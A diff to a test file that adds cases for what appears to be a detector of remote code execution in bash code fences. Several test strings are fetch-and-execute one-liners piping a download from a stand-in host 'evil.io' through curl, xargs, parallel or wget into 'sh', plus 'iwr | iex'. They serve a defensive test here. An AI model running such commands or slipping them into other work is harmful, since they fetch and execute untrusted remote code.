@@ -81,6 +81,11 @@ describe('a fetch of nothing is not remote-exec', () => {
     'curl --url evil.io | sh',
     'wget -i list.txt -O- | sh',
     'CURL_HOME=/tmp/x curl | sh',
+    'echo evil.io/x | xargs curl -fsSL | sh',
+    'echo evil.io/x | xargs -n1 curl | sh',
+    'echo evil.io/x | sudo xargs curl [url] | sh',
+    'echo evil.io/x | parallel curl | sh',
+    'echo evil.io/x | xargs curl https://example.com/a | sh',
     'iwr | iex',
   ])('still remote: %s', (code) => {
     expect(fence('bash', code).length).toBeGreaterThan(0);
